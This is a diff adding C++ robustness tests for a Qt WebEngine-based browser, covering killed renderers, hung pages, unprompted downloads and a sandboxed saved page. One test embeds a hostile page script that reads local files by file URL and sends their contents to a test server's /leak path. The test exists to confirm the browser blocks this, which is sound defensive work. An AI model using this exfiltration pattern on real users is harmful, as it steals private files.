@@ -1,0 +1,290 @@
+// What a hostile or broken page may do to the browser with the real engine: open windows from
+// a background tab, lose its renderer, loop for ever, read the user's files.
+#include "browser/webengine/scriptrunner.h"
+#include "browser/webengine/webengineview.h"
+#include "browser/webengine/webengineviewfactory.h"
+#include "shell/commands.h"
+#include "shell/mainwindow.h"
+#include "shell/tabmanager.h"
+#include "support/fakedialogs.h"
+#include "support/localhttpserver.h"
+#include "support/waitfor.h"
+
+#include <QDir>
+#include <QDirIterator>
+#include <QFile>
+#include <QLabel>
+#include <QTemporaryDir>
+#include <QTest>
+#include <QWebEnginePage>
+#include <QWebEngineView>
+
+#include <gtest/gtest.h>
+
+#include <csignal>
+
+namespace {
+
+using browser::BrowserView;
+using testing_support::pause;
+using testing_support::waitFor;
+
+void copyProgramFolder(const QString &to) {
+    const QString from = QStringLiteral(LUMARO_PROGRAM_FOLDER);
+    QDirIterator it(from, QDir::Files | QDir::Dirs | QDir::NoDotAndDotDot,
+                    QDirIterator::Subdirectories);
+    while (it.hasNext()) {
+        const QString relative = QDir(from).relativeFilePath(it.next());
+        if (relative.startsWith("CMakeFiles") || relative.startsWith("lumaro") ||
+            relative.startsWith("profile"))
+            continue;
+        if (it.fileInfo().isDir())
+            QDir().mkpath(QDir(to).filePath(relative));
+        else
+            QFile::copy(it.filePath(), QDir(to).filePath(relative));
+    }
+}
+
+class Robustness : public ::testing::Test {
+protected:
+    void SetUp() override {
+        copyProgramFolder(programDir.path());
+        server.addPage("/opener.htm", "<html><head><title>opener</title></head><body>opener"
+                                      "<script>onload=()=>setTimeout(()=>"
+                                      "window.open('about:blank'),300)</script></body></html>");
+        for (const char *path : {"/a.htm", "/b.htm", "/c.htm"})
+            server.addPage(path, QByteArray("<html><head><title>") + path +
+                                     "</title></head><body>page</body></html>");
+        window = std::make_unique<shell::MainWindow>(common::ProgramFolder(programDir.path()),
+                                                     factory, &dialogs);
+        window->resize(1000, 700);
+        window->show();
+        ASSERT_TRUE(waitFor([&] { return loaded(tabs().viewAt(0)); }));
+    }
+    void TearDown() override { window.reset(); }
+
+    shell::TabManager &tabs() { return window->tabs(); }
+    static bool loaded(BrowserView *view) {
+        return view && !view->isBusy() && !view->url().isEmpty();
+    }
+    static QWebEnginePage *page(BrowserView *view) {
+        return static_cast<browser::WebEngineView *>(view)->page();
+    }
+    static QVariant js(BrowserView *view, const QString &script) {
+        return browser::ScriptRunner::run(page(view), script);
+    }
+    // Opens an address in a new background tab, as a typed address does, and waits for it.
+    BrowserView *openInBackground(const QUrl &url) {
+        window->openAddress(url.toString());
+        BrowserView *view = tabs().viewAt(tabs().viewCount() - 1);
+        EXPECT_TRUE(waitFor([&] { return loaded(view) && view->url() == url; }));
+        pause(800); // past the new-tab throttle
+        return view;
+    }
+    // Selects every tab in turn and lets each paint: the program must still be alive.
+    void selectEveryTab() {
+        for (int position = 1; position <= tabs().tabCount(); ++position) {
+            tabs().switchByKeyboard(position);
+            pause(150);
+        }
+    }
+
+    QTemporaryDir programDir;
+    testing_support::LocalHttpServer server;
+    testing_support::FakeDialogs dialogs;
+    browser::WebEngineViewFactory factory{QString()};
+    std::unique_ptr<shell::MainWindow> window;
+};
+
+TEST_F(Robustness, ABackgroundTabThatOpenedAWindowCanBeShown) {
+    BrowserView *opener = openInBackground(server.url("/opener.htm"));
+    pause(1500); // the page's window.open has come and gone (timers are slow in hidden tabs)
+    ASSERT_EQ(tabs().viewAt(1), opener);
+    selectEveryTab();
+    EXPECT_EQ(tabs().currentView(), tabs().viewAtPosition(tabs().tabCount()));
+    EXPECT_EQ(opener->title(), "opener");
+    EXPECT_EQ(js(opener, "document.title").toString(), "opener");
+}
+
+TEST_F(Robustness, BackgroundTabsWhoseRendererWasKilledCanBeShown) {
+    QList<BrowserView *> views;
+    for (const char *path : {"/a.htm", "/b.htm", "/c.htm"})
+        views.append(openInBackground(server.url(path)));
+    const qint64 pid = page(views[1])->renderProcessPid();
+    ASSERT_GT(pid, 0);
+    ::kill(pid_t(pid), SIGKILL);
+    ASSERT_TRUE(waitFor([&] { return js(views[1], "1").isNull(); }));
+    pause(300);
+    selectEveryTab();
+    // The page whose renderer was killed comes back with a reload.
+    tabs().switchByKeyboard(3);
+    views[1]->reload();
+    EXPECT_TRUE(waitFor([&] { return js(views[1], "document.title").toString() == "/b.htm"; }));
+}
+
+TEST_F(Robustness, BackgroundTabsSurviveANavigationThatCrashesTheirRenderer) {
+    BrowserView *a = openInBackground(server.url("/a.htm"));
+    BrowserView *b = openInBackground(server.url("/b.htm"));
+    a->navigate(QUrl("chrome://crash"));
+    b->navigate(QUrl("chrome://kill"));
+    pause(1500);
+    selectEveryTab();
+    EXPECT_EQ(tabs().tabCount(), 3);
+}
+
+TEST_F(Robustness, ARendererDeathShowsItsNoticeInItsOwnTabOnly) {
+    BrowserView *a = openInBackground(server.url("/a.htm"));
+    BrowserView *b = openInBackground(server.url("/b.htm"));
+    const auto notice = [](BrowserView *view) {
+        QLabel *label = view->widget()->findChild<QLabel *>();
+        return label && !label->isHidden() ? label->text() : QString();
+    };
+    ::kill(pid_t(page(b)->renderProcessPid()), SIGKILL);
+    ASSERT_TRUE(waitFor([&] { return !notice(b).isEmpty(); }));
+    EXPECT_TRUE(notice(b).contains(QString::fromUtf8("刷新网页"))) << notice(b).toStdString();
+    EXPECT_TRUE(notice(a).isEmpty());
+    EXPECT_TRUE(notice(tabs().viewAt(0)).isEmpty());
+    EXPECT_EQ(js(a, "document.title").toString(), "/a.htm");
+    EXPECT_EQ(js(tabs().viewAt(0), "document.title").toString(), "favorites");
+}
+
+TEST_F(Robustness, TabsClosedWhileTheirPagesLoadLeaveTheProgramRunning) {
+    for (int i = 0; i < 5; ++i) {
+        window->openAddress(server.url(i % 2 ? "/opener.htm" : "/a.htm").toString());
+        tabs().selectTab(tabs().tabCount());
+        tabs().closeCurrent();
+        pause(750);
+    }
+    EXPECT_EQ(tabs().tabCount(), 1);
+    EXPECT_EQ(js(tabs().viewAt(0), "document.title").toString(), "favorites");
+}
+
+TEST_F(Robustness, APageThatDoesNotAnswerIsNotSavedAndTheUserIsTold) {
+    server.addPage("/busy.htm", "<html><head><title>busy</title></head><body>busy"
+                                "<script>onload=()=>setTimeout(()=>{for(;;){}},100)</script>"
+                                "</body></html>");
+    QTemporaryDir saveDir;
+    window->setSavePath(saveDir.path());
+    BrowserView *busy = openInBackground(server.url("/busy.htm"));
+    tabs().switchByKeyboard(tabs().tabCount());
+    pause(500);
+    ASSERT_FALSE(busy->html().has_value());
+    window->commands().runMenuEntry("onlysave");
+    window->commands().runMenuEntry("savetext");
+    EXPECT_TRUE(QDir(saveDir.path()).entryList(QDir::Files).isEmpty());
+    EXPECT_TRUE(dialogs.messageTexts().contains(QString::fromUtf8("网页没有响应，没有保存")))
+        << dialogs.messageTexts().join('|').toStdString();
+}
+
+// A saved page opened from the disk runs its scripts, but can read no other local file and
+// reach no server on its own.
+TEST_F(Robustness, ASavedPageReadsNoLocalFileAndFetchesNothing) {
+    QTemporaryDir saved;
+    QTemporaryDir other;
+    const QString secret = QDir(other.path()).filePath("secret.txt");
+    QFile secretFile(secret);
+    ASSERT_TRUE(secretFile.open(QIODevice::WriteOnly));
+    secretFile.write("TOPSECRET");
+    secretFile.close();
+    QFile sibling(QDir(saved.path()).filePath("sibling.txt"));
+    ASSERT_TRUE(sibling.open(QIODevice::WriteOnly));
+    sibling.write("SIBLINGSECRET");
+    sibling.close();
+    const QString secretUrl = QUrl::fromLocalFile(secret).toString();
+    const QString siblingUrl = QUrl::fromLocalFile(sibling.fileName()).toString();
+    const QString server0 = server.url("/").toString();
+    const QString page =
+        QString("<html><head><title>saved</title></head><body>saved page"
+                "<script>setTimeout(()=>{document.title='ran';"
+                "new Image().src='%3image?d=x';"
+                "const got=[];const send=t=>{got.push(t);"
+                "fetch('%3leak?d='+encodeURIComponent(t)).catch(()=>{});"
+                "document.title='ran read:'+got.join(',');};"
+                "for(const u of ['%1','%2']){"
+                "fetch(u).then(r=>r.text()).then(send).catch(()=>{});"
+                "try{const x=new XMLHttpRequest();x.open('GET',u);"
+                "x.onload=()=>send(x.responseText);x.send();}catch(e){}}"
+                "fetch('%3fetched').then(r=>r.text()).then(send).catch(()=>{});"
+                "try{const x=new XMLHttpRequest();x.open('GET','%3xhr');x.send();}catch(e){}"
+                "navigator.sendBeacon && navigator.sendBeacon('%3beacon','x');"
+                "const f=document.createElement('iframe');f.onload=()=>{try{"
+                "send(f.contentDocument.body.innerText);}catch(e){}};f.src='%1';"
+                "document.body.appendChild(f);},300)</script></body></html>")
+            .arg(secretUrl, siblingUrl, server0);
+    const QString path = QDir(saved.path()).filePath("saved.htm");
+    QFile file(path);
+    ASSERT_TRUE(file.open(QIODevice::WriteOnly));
+    file.write(page.toUtf8());
+    file.close();
+    server.addPage("/fetched", "FETCHED");
+    server.addPage("/xhr", "XHR");
+    server.addPage("/beacon", "");
+    server.addPage("/leak", "");
+
+    // Shown at once: a frame that loads while the favourites page is the current page would
+    // be taken for a favourite being followed.
+    window->openAddress(QUrl::fromLocalFile(path).toString());
+    BrowserView *view = tabs().viewAt(tabs().viewCount() - 1);
+    tabs().switchByKeyboard(tabs().tabCount());
+    ASSERT_TRUE(waitFor([&] { return loaded(view); }));
+    pause(2000);
+    EXPECT_EQ(tabs().tabCount(), 2);
+    EXPECT_EQ(js(view, "document.body.firstChild.textContent").toString(), "saved page");
+    const QString title = view->title();
+    EXPECT_TRUE(title.startsWith("ran")) << title.toStdString(); // its scripts do run
+    EXPECT_FALSE(title.contains("TOPSECRET")) << title.toStdString();
+    EXPECT_FALSE(title.contains("SIBLINGSECRET")) << title.toStdString();
+    EXPECT_FALSE(title.contains("FETCHED")) << title.toStdString();
+    EXPECT_EQ(server.requestsFor("/fetched"), 0);
+    EXPECT_EQ(server.requestsFor("/xhr"), 0);
+    EXPECT_EQ(server.requestsFor("/beacon"), 0);
+    EXPECT_EQ(server.requestsFor("/leak"), 0);
+    EXPECT_EQ(server.requestsFor("/image"), 0);
+}
+
+TEST_F(Robustness, APageThatDownloadsOnItsOwnAsksFirstAndAClickedLinkDoesNot) {
+    server.addPage("/file.zip", QByteArray("PK\x03\x04 zip"), "application/zip");
+    server.addPage("/auto.htm", "<html><body>auto<script>onload=()=>setTimeout(()=>{"
+                                "location.href='/file.zip'},100)</script></body></html>");
+    server.addPage("/click.htm", "<html><body><a id=z href='/file.zip' style='font-size:60px'>"
+                                 "zip</a></body></html>");
+    QTemporaryDir saveDir;
+    window->setSavePath(saveDir.path());
+    const QString saved = QDir(saveDir.path()).filePath("file.zip");
+    dialogs.answers = {shell::Dialogs::Answer::No};
+    window->openAddress(server.url("/auto.htm").toString());
+    ASSERT_TRUE(waitFor([&] { return !dialogs.shown.isEmpty(); })) << [&] {
+        std::string out;
+        for (int i = 0; i < tabs().viewCount(); ++i)
+            out += tabs().viewAt(i)->url().toString().toStdString() + " ";
+        return out + window->panelText("s2").toStdString();
+    }();
+    const QString question = dialogs.shown[0].text;
+    EXPECT_TRUE(question.contains("file.zip")) << question.toStdString();
+    EXPECT_TRUE(question.contains(QDir::toNativeSeparators(saveDir.path())));
+    pause(500);
+    EXPECT_FALSE(QFile::exists(saved));
+
+    pause(800);
+    dialogs.shown.clear();
+    window->openAddress(server.url("/click.htm").toString());
+    BrowserView *view = tabs().viewAt(tabs().viewCount() - 1);
+    tabs().switchByKeyboard(tabs().tabCount());
+    ASSERT_TRUE(waitFor([&] { return loaded(view); }));
+    const QVariantList box =
+        js(view, "(function(){const r=document.getElementById('z').getBoundingClientRect();"
+                 "return [r.x+r.width/2,r.y+r.height/2];})()")
+            .toList();
+    ASSERT_EQ(box.size(), 2);
+    QWidget *target = static_cast<browser::WebEngineView *>(view)->engineView()->focusProxy();
+    ASSERT_TRUE(target);
+    const QPoint at(box[0].toInt(), box[1].toInt());
+    QTest::mouseMove(target, at);
+    ASSERT_TRUE(waitFor([&] { return tabs().statusText().startsWith("http"); }));
+    QTest::mouseClick(target, Qt::LeftButton, {}, at);
+    ASSERT_TRUE(waitFor([&] { return QFile::exists(saved); }))
+        << tabs().tabCount() << " " << dialogs.messageTexts().join('|').toStdString();
+    EXPECT_TRUE(dialogs.shown.isEmpty());
+}
+
+} // namespace
